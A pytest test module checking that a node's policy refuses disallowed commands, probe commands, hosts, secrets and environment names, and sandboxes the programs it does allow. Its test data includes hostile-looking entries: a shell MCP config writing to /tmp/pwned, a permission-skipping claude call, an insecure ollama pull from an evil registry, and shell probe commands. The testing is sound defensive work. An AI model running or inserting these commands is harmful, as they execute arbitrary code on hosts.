"""A Node's own policy bounds what its Edge can make it do (R-TLS-3, R-TLS-6..8), with real
processes: a denied command, probe command, upstream host, secret and environment name are
refused on the Node, reported to the Edge, shown unavailable with the reason on /pool, never
run, never a candidate; an old-style prefix entry grants its exact argv only; an allowed
program runs in a private directory of its own, removed after its run."""

from __future__ import annotations

import json
import os
import shlex
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from tests.fakes import CLI_TOOL
from tests.support import Stack
from tests.support.scale_failures import eventually
from tests.support.stack import provider_row

pytestmark = pytest.mark.slow

PIDFILE = "denied-cli.pid"
MARKER = "probe-ran.marker"
ALLOWED_PROBE = "allowed-probe.json"
PYTHON_MARKER = "python-c-ran.marker"
MCP_CONFIG = '{"mcpServers":{"x":{"command":"sh","args":["-c","id > /tmp/pwned"]}}}'


def _providers(directory: Path) -> list[dict[str, Any]]:
    openai = {"profile": "openai", "capacity": 2}
    return [
        {"id": "p-ok", "base_url": "{up:main}/v1", **openai,
         "credential": {"env": "IOP_ALLOWED_KEY"}},
        # Plain http to a host the policy allows bare, which means https only.
        {"id": "p-denied-host", "base_url": "{up:other}/v1", **openai},
        {"id": "p-denied-secret", "base_url": "{up:main}/v1", **openai,
         "credential": {"env": "IOP_OTHER_KEY"}},
        {"id": "p-denied-cmd", "type": "cli",
         "command": [sys.executable, CLI_TOOL, "hang", str(directory / PIDFILE)]},
        # An allowed command whose probe would run any program as the Node's user.
        {"id": "p-denied-probe", "type": "cli", "command": [sys.executable, CLI_TOOL, "echo"],
         "probe_command": ["/bin/sh", "-c", f"id > {directory / MARKER}"],
         "probe_interval_s": 1},
        # Allowed, probed after it: once its probe ran, the refused one would have run too.
        {"id": "p-probed", "type": "cli", "command": [sys.executable, CLI_TOOL, "echo"],
         "probe_command": [sys.executable, CLI_TOOL, "envdump", str(directory / ALLOWED_PROBE)],
         "probe_interval_s": 2},
        # R-TLS-6, the review's reproductions: entries written as prefixes grant their argv only.
        {"id": "p-python-c", "type": "cli",
         "command": [sys.executable, "-c", f"open({str(directory / PYTHON_MARKER)!r}, 'w')"]},
        {"id": "p-claude-mcp", "type": "cli",
         "command": ["claude", "-p", "--dangerously-skip-permissions", "--mcp-config", MCP_CONFIG]},
        {"id": "p-ollama-insecure", "type": "cli",
         "command": ["/usr/bin/ollama", "run", "--insecure", "registry.evil.example/m"]},
        # R-TLS-7: an allowed program, an environment name the policy does not list.
        {"id": "p-git-env", "type": "cli", "command": [sys.executable, CLI_TOOL, "echo"],
         "env": {"GIT_CONFIG_PARAMETERS": {"env": "IOP_ALLOWED_KEY"}}},
        # R-TLS-8: where an allowed program runs.
        {"id": "p-cwd", "type": "cli", "command": [sys.executable, CLI_TOOL, "cwd"]},
        {"id": "p-pwd", "type": "cli", "command": ["pwd"]},
    ]  # fmt: skip


POLICY = {
    "commands": [
        [sys.executable, CLI_TOOL, "echo"],
        [sys.executable, CLI_TOOL, "envdump", "..."],  # a prefix on python: warned at start
        [sys.executable, CLI_TOOL, "cwd"],
        ["pwd"],
        [sys.executable],  # old-style prefixes: each now allows exactly this argv
        ["claude", "-p"],
        ["/usr/bin/ollama", "run"],
    ],
    "hosts": ["{up:main}", "{host:other}"],  # http://127.0.0.1:P1, and 127.0.0.1:P2 (https)
    "secrets": {"env": ["IOP_ALLOWED_KEY"]},
}
NEW_MEANING = '(an entry without a last "..." allows exactly its argv, R-TLS-6)'

MODELS = [
    {"id": name, "providers": {pid: "served"}}
    for name, pid in [
        ("ok", "p-ok"),
        ("denied-host", "p-denied-host"),
        ("denied-secret", "p-denied-secret"),
        ("denied-cmd", "p-denied-cmd"),
        ("denied-probe", "p-denied-probe"),
        ("python-c", "p-python-c"),
        ("claude-mcp", "p-claude-mcp"),
        ("ollama-insecure", "p-ollama-insecure"),
        ("git-env", "p-git-env"),
        ("cwd", "p-cwd"),
        ("pwd", "p-pwd"),
    ]
]
REASONS = {
    "p-denied-host": "upstream http://127.0.0.1:{port} is not an allowed host",
    "p-denied-secret": "secret env IOP_OTHER_KEY is not an allowed name",
    "p-denied-cmd": " is not an allowed command",
    "p-denied-probe": "probe command /bin/sh -c 'id > ",
    "p-python-c": f"is not an allowed command {NEW_MEANING}",
    "p-claude-mcp": "command claude -p --dangerously-skip-permissions --mcp-config "
    f"{shlex.quote(MCP_CONFIG)} is not an allowed command {NEW_MEANING}",
    "p-ollama-insecure": "command /usr/bin/ollama run --insecure registry.evil.example/m is not "
    f"an allowed command {NEW_MEANING}",
    "p-git-env": "command environment: GIT_CONFIG_PARAMETERS is not in policy.env",
}


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    directory = tmp_path_factory.mktemp("policy")
    nodes = [{"id": "node-1", "providers": _providers(directory), "config": {"policy": POLICY}}]
    stack = Stack(
        directory,
        upstreams={"main": "openai", "other": "openai"},
        nodes=nodes,
        models=MODELS,
        env={"IOP_ALLOWED_KEY": "sk-allowed", "IOP_OTHER_KEY": "sk-other-secret"},
    )
    try:
        stack.start(wait_online=False)  # the denied providers never come online
        stack.wait_until(
            lambda snap: any(p["online"] for p in snap["providers"]), what="p-ok online"
        )
        yield stack
    finally:
        stack.stop()


def test_denied_providers_are_unavailable_on_pool_with_the_reason_r_tls_3(stack: Stack):
    """R-TLS-3: each refusal names what was refused: an http URL to a host allowed bare
    (https only), a secret, a command, the probe command of an allowed command."""
    rows = {p["provider_id"]: p for p in stack.pool_snapshot()["providers"]}
    assert rows["p-ok"]["online"] and rows["p-ok"]["unavailable"] is None
    other_port = stack.upstream("other").url.rsplit(":", 1)[1]
    for pid, reason in REASONS.items():
        assert not rows[pid]["online"]
        assert rows[pid]["unavailable"].startswith("refused by node policy: ")
        assert reason.replace("{port}", other_port) in rows[pid]["unavailable"]
    python_c = f"refused by node policy: command {sys.executable} -c "
    assert rows["p-python-c"]["unavailable"].startswith(python_c)
    assert "sk-other-secret" not in str(rows)


@pytest.mark.parametrize(
    "model",
    ["denied-host", "denied-secret", "denied-cmd", "denied-probe", "python-c", "claude-mcp",
     "ollama-insecure", "git-env"],
)  # fmt: skip
def test_a_request_for_a_denied_provider_is_refused_and_nothing_runs_r_tls_3(
    stack: Stack, http: httpx.Client, model: str
):
    stack.reset_upstreams()
    body = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
    response = http.post("/v1/chat/completions", json=body)
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "no_available_provider"
    assert stack.upstream("other").server.requests == []
    assert stack.upstream("main").server.requests == []
    assert not (stack.dir / PIDFILE).exists()  # the denied command never started
    assert not (stack.dir / PYTHON_MARKER).exists()  # R-TLS-6: `python3 -c` never ran
    stack.wait_idle()


def test_the_allowed_provider_still_serves_r_tls_3(stack: Stack, http: httpx.Client):
    body = {"model": "ok", "messages": [{"role": "user", "content": "hi"}]}
    assert http.post("/v1/chat/completions", json=body).status_code == 200
    stack.wait_idle()


def test_the_node_logs_each_refusal_once_per_connection_r_tls_3(stack: Stack):
    log = stack.nodes[0].log.read_text()
    for pid in REASONS:
        assert log.count(f"provider {pid} refused by node policy") == 1


def test_a_probe_command_outside_the_policy_never_runs_r_tls_3(stack: Stack):
    """R-TLS-3 (sharpened): the command is allowed, its probe_command (`/bin/sh -c 'id >
    marker'`, every second) is not: the provider is refused whole, so the probe never runs,
    though an allowed provider's probe (every two seconds) did."""
    row = provider_row(stack.pool_snapshot(), "p-denied-probe")
    assert "probe command /bin/sh" in row["unavailable"]
    eventually(lambda: (stack.dir / ALLOWED_PROBE).exists(), "the allowed probe ran")
    assert not (stack.dir / MARKER).exists()


def test_a_program_sees_the_base_environment_not_the_nodes_other_secrets_r_tls_3(stack: Stack):
    """R-TLS-3 (sharpened): the Node's own environment holds its token and a provider key; a
    program it starts (here a probe) gets only the fixed base, none of them."""
    eventually(lambda: (stack.dir / ALLOWED_PROBE).exists(), "the allowed probe ran")
    env = json.loads((stack.dir / ALLOWED_PROBE).read_text())["env"]
    assert "PATH" in env
    for name in ("IOP_NODE_TOKEN", "IOP_ALLOWED_KEY", "IOP_OTHER_KEY"):
        assert name not in env
    assert "sk-other-secret" not in json.dumps(env) and "sk-allowed" not in json.dumps(env)


def test_a_pushed_revision_cannot_swap_in_a_probe_the_policy_forbids_r_tls_3(stack: Stack):
    """R-TLS-3 (sharpened): probe_command is a live key; a revision that points an allowed
    provider's probe at another program is checked when the Node installs it: the provider
    turns unavailable with the reason, and the program never runs."""
    document = yaml.safe_load(stack.config_path.read_text())
    (provider,) = [p for p in document["nodes"][0]["providers"] if p["id"] == "p-probed"]
    marker = stack.dir / "pushed-probe.marker"
    provider["probe_command"] = ["/bin/sh", "-c", f"id > {marker}"]
    provider["probe_interval_s"] = 1
    status, report = stack.refresh("apply", document)
    assert status == 200, report
    stack.wait_until(
        lambda snap: bool(provider_row(snap, "p-probed")["unavailable"]),
        what="p-probed refused after the push",
    )
    reason = provider_row(stack.pool_snapshot(), "p-probed")["unavailable"]
    assert reason.startswith("refused by node policy: probe command /bin/sh -c 'id > ")
    assert not marker.exists()


def _answer(http: httpx.Client, model: str) -> str:
    body = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
    response = http.post("/v1/chat/completions", json=body)
    assert response.status_code == 200, response.text
    return str(response.json()["choices"][0]["message"]["content"])


def test_a_program_runs_in_a_private_empty_directory_removed_after_its_run_r_tls_8(
    stack: Stack, http: httpx.Client
):
    """R-TLS-8: `pwd` prints a fresh directory, not the Node's own working directory (the
    checkout, where `make run` keeps raw tokens); it was empty and 0700 when the program
    started, is another one on the next run, and is gone, with what the program left in it,
    once the run is over."""
    seen = [json.loads(_answer(http, "cwd")) for _ in range(2)]
    for run in seen:
        assert run["entries"] == [] and run["mode"] == "0o700"
        assert os.path.basename(run["cwd"]).startswith("iop-run-")
        assert not os.path.exists(run["cwd"])  # removed, with the file the program left
    assert seen[0]["cwd"] != seen[1]["cwd"]
    printed = _answer(http, "pwd").strip()
    assert os.path.basename(printed).startswith("iop-run-")
    assert printed != str(stack.root) and not os.path.exists(printed)
    stack.wait_idle()


def test_the_node_warns_at_start_about_a_prefix_on_an_interpreter_r_tls_6(stack: Stack):
    """R-TLS-6: the envdump entry ends in "..." on the Python interpreter: one warning at
    start naming it; the policy uses "...", so no line about the old prefix meaning."""
    log = stack.nodes[0].log.read_text()
    lines = [line for line in log.splitlines() if "lets an Edge run any code" in line]
    assert len(lines) == 1 and " WARNING " in lines[0]
    assert f"policy.commands[1] {sys.executable} {CLI_TOOL} envdump ...: a prefix on" in lines[0]
    assert "now allows exactly its argv" not in log
